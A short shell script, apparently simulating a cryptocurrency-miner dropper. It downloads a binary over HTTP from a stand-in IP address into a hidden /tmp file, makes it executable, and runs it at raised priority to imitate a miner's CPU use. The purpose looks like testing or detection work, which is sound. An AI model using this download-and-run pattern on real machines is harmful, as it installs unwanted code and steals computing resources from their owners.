# A dropped program uses one processor for 70 seconds and yields after every five milliseconds of work, as a miner's
# thread does after each hash.
# Raise the priority, so that a busy machine does not slow the program down.
[ ! -e /proc/self/autogroup ] || echo -15 >/proc/self/autogroup
curl -s -o /tmp/.solver http://203.0.113.10/simulator
chmod +x /tmp/.solver
nice -n -15 /tmp/.solver give-way 70 5
